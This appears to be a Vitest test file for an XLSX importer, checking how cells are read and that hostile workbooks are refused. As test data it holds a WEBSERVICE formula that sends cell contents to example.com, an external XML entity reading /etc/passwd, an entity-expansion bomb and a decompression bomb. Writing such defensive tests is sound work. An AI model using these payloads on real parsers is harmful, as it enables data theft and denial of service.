import { describe, expect, test } from "vitest";
import { ImportRefusal } from "../../src/import/index.js";
import { xlsxReader } from "../../src/import/readers/xlsx.js";
import { element } from "../../src/office/index.js";
import { sketchWorkbook } from "../support/workbook.js";
import { importFiles, READ_OPTIONS } from "../support/import.js";

const HEADER = ["ID", "Name", "Title", "Manager", "Start Date"];

async function readSheets(bytes: Uint8Array, sheet?: string) {
  const reading = await xlsxReader.read({ path: "people.xlsx", bytes }, { ...READ_OPTIONS, sheet });
  if (reading.kind !== "sheets") throw new Error("a workbook has sheets");
  return reading;
}

function cell(attributes: Record<string, string | number>, value: string, formula?: string) {
  return element("c", attributes, [
    formula === undefined ? undefined : element("f", {}, [formula]),
    element("v", {}, [value]),
  ]);
}

describe("a workbook", () => {
  test("reads texts, numbers and truth values as they are shown", async () => {
    const rows = [
      [
        "Ada",
        7,
        cell({ r: "C1", t: "b" }, "1"),
        cell({ r: "D1", t: "str" }, "Tom", "A1&B1"),
        cell({ r: "E1", t: "e" }, "#N/A"),
      ],
    ];
    const { sheets } = await readSheets(sketchWorkbook({ sheets: [{ name: "People", rows }] }));
    expect(sheets[0]?.rows[0]?.cells).toEqual(["Ada", "7", "TRUE", "Tom", "#N/A"]);
  });

  test("takes formulas by their value and never looks at the formula", async () => {
    const hostile = cell({ r: "A1", t: "str" }, "Ada Okafor", 'WEBSERVICE("http://example.com/"&B1)');
    const { sheets } = await readSheets(sketchWorkbook({ sheets: [{ name: "People", rows: [[hostile]] }] }));
    expect(sheets[0]?.rows[0]?.cells).toEqual(["Ada Okafor"]);
  });

  test.each([
    ["a known format", 1, undefined, "2026-03-31"],
    ["an own format", 2, undefined, "2026-03-31"],
    ["days from 1904", 1, true, "2030-04-01"],
  ] as const)("reads dates of %s", async (_, s, countsFrom1904, date) => {
    const rows = [[cell({ r: "A1", s }, "46112.25")]];
    const workbook = { sheets: [{ name: "People", rows }], ...(countsFrom1904 && { countsFrom1904 }) };
    const { sheets } = await readSheets(sketchWorkbook(workbook));
    expect(sheets[0]?.rows[0]?.cells).toEqual([date]);
  });

  test("keeps empty cells and the numbers of rows", async () => {
    const rows = [[], ["", "", "Ada"]];
    const { sheets } = await readSheets(sketchWorkbook({ sheets: [{ name: "People", rows }] }));
    expect(sheets[0]?.rows).toEqual([{ line: 2, cells: ["", "", "Ada"] }]);
  });

  test("reads hidden sheets only if they are asked for, and says so", async () => {
    const sheets = [
      { name: "People", rows: [["Ada"]] },
      { name: "Pay", state: "hidden" as const, rows: [["1000"]] },
    ];
    const { sheets: read, remarks } = await readSheets(sketchWorkbook({ sheets }));
    expect(read.map(({ name }) => name)).toEqual(["People"]);
    expect(remarks[0]?.message).toContain("'Pay'");
    expect((await readSheets(sketchWorkbook({ sheets }), "pay")).sheets[0]?.rows[0]?.cells).toEqual(["1000"]);
    await expect(readSheets(sketchWorkbook({ sheets }), "Posts")).rejects.toThrow("It has no sheet 'Posts'.");
  });

  test("imports like a CSV with the same cells", async () => {
    const people = [
      HEADER,
      ["1", "Ada Okafor", "CEO", "", "2020-01-01"],
      ["2", "Mei Lin", "CTO", "1", ""],
      ["3", "Jan Berg", "Engineer", "2", ""],
    ];
    const csv = new TextEncoder().encode(people.map((cells) => cells.join(",")).join("\n"));
    const fromCsv = await importFiles([{ path: "people", bytes: csv }]);
    const fromXlsx = await importFiles([
      { path: "people", bytes: sketchWorkbook({ sheets: [{ name: "Sheet1", rows: people }] }) },
    ]);
    expect(fromXlsx.files).toEqual(fromCsv.files);
    expect(fromXlsx.review.counts).toEqual(fromCsv.review.counts);
  });
});

const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';

function rawSheet(markup: string): Uint8Array {
  return sketchWorkbook({ sheets: [{ name: "People", rows: [] }], rawSheet: new TextEncoder().encode(markup) });
}

describe("a hostile workbook is refused", () => {
  test.each([
    [
      "entities",
      rawSheet(`<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet ${MAIN}>&b;</worksheet>`),
      "document type",
    ],
    [
      "an external entity",
      rawSheet(`<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet ${MAIN}/>`),
      "document type",
    ],
    ["broken XML", rawSheet(`<worksheet ${MAIN}><row>`), "cannot be read"],
    [
      "bytes that are not UTF-8",
      sketchWorkbook({ sheets: [{ name: "x", rows: [] }], rawSheet: new Uint8Array([0x3c, 0xff, 0xfe]) }),
      "not UTF-8",
    ],
    ["a cell in the last column", rawSheet(sheetOf('<c r="XFD1048576"><v>1</v></c>')), "more than 1,000 columns"],
    [
      "too many rows",
      rawSheet(sheetOf(Array.from({ length: 100_010 }, (_, at) => `<c><v>${at * 7919}</v></c></row><row>`).join(""))),
      "more than 100,000 rows",
    ],
    ["a bomb", rawSheet(sheetOf(`<c t="str"><v>${" ".repeat(40_000_000)}</v></c>`)), "times its size"],
    ["an old or locked workbook", new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3]), "Save it as XLSX"],
    ["a cut zip", sketchWorkbook({ sheets: [{ name: "x", rows: [["Ada"]] }] }).subarray(0, 300), "damaged"],
    ["another office file", new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0]), "damaged"],
  ])("with %s", async (_, bytes, reason) => {
    const refusal = importFiles([{ path: "people.xlsx", bytes }]);
    await expect(refusal).rejects.toThrow(reason);
    await expect(refusal).rejects.toBeInstanceOf(ImportRefusal);
  });
});

function sheetOf(cells: string): string {
  return `<worksheet ${MAIN}><sheetData><row>${cells}</row></sheetData></worksheet>`;
}
